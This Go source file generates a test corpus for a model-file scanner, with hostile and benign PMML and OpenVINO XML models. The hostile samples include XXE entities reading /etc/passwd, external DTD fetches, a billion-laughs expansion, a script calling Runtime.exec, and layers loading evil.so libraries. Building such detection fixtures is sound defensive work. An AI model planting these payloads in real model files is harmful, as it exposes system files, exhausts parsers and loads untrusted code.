package main

// xmlFiles are models in XML.
func xmlFiles(c *corpus) {
	const xxe = "XML external entities (CWE-611); modelaudit PMML tests"
	pmml := func(doctype, body string) []byte {
		return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + doctype + `<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="corpus"/></Header>` +
			`<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/><DataField name="y" optype="continuous" dataType="double"/></DataDictionary>` + body +
			`<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema><RegressionTable intercept="1"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel></PMML>` + "\n")
	}
	c.hostile("other", "PMML external entity", xxe, "model.pmml", pmml(`<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, `<Extension name="a">&x;</Extension>`))
	c.hostile("other", "PMML external entity", xxe, "model.pmml", pmml(`<!DOCTYPE PMML SYSTEM "http://example.org/evil.dtd">`, ""))
	c.hostile("other", "PMML external entity", xxe, "model.pmml", pmml(`<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://example.org/x.dtd"> %p;]>`, ""))
	c.hostile("other", "PMML entities that grow", "billion laughs", "model.pmml", pmml(`<!DOCTYPE PMML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>`, `<Extension name="a">&d;</Extension>`))
	c.hostile("other", "PMML script", "modelaudit PMML tests", "model.pmml", pmml("", `<Extension name="script" value="eval"><script>java.lang.Runtime.getRuntime().exec("echo")</script></Extension>`))
	for i := range 3 {
		c.benign("other", "pmml", "model.pmml", pmml("", []string{"", `<Extension name="note" value="trained in 2025"/>`, "<!-- honest -->"}[i]))
	}

	ir := func(doctype, layer string) []byte {
		return []byte(`<?xml version="1.0"?>` + "\n" + doctype + `<net name="tiny" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,4" element_type="f32"/><output><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>` +
			layer + `<layer id="2" name="r" type="Result" version="opset1"><input><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></input></layer></layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/><edge from-layer="1" from-port="1" to-layer="2" to-port="0"/></edges></net>` + "\n")
	}
	op := func(kind, version, data string) string {
		return `<layer id="1" name="n" type="` + kind + `" version="` + version + `">` + data + `<input><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></input><output><port id="1" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer>`
	}
	c.hostile("other", "OpenVINO external entity", xxe, "model.xml", ir(`<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, op("ReLU", "opset1", "")))
	c.hostile("other", "OpenVINO layer of a library", "modelaudit OpenVINO tests", "model.xml", ir("", op("EvilShell", "extension", `<data library="./evil.so"/>`)))
	c.hostile("other", "OpenVINO layer of a library", "modelaudit OpenVINO tests", "model.xml", ir("", op("Custom", "custom", `<data library="../../evil.so" path="/tmp/evil.so"/>`)))
	c.benignFolder("other", "openvino", map[string][]byte{"model.xml": ir("", op("ReLU", "opset1", ""))})
	c.benignFolder("other", "openvino", map[string][]byte{"model.xml": ir("", op("Sigmoid", "opset1", "")), "model.bin": make([]byte, 16)})
}
